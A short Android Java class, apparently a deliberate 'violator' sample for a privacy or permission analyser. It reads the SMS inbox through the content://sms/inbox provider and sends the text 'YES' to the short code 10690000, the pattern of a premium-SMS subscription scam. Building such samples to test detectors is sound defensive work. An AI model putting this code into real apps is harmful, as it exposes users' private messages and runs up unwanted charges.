package org.mingcha.sample.violator;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;
import android.telephony.SmsManager;

/** Reads the text messages by their provider's address, and sends one. */
final class ReadsMessages {
    private ReadsMessages() {
    }

    static Cursor inbox(Context context) {
        return context.getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
    }

    static void subscribe() {
        SmsManager.getDefault().sendTextMessage("10690000", null, "YES", null, null);
    }
}
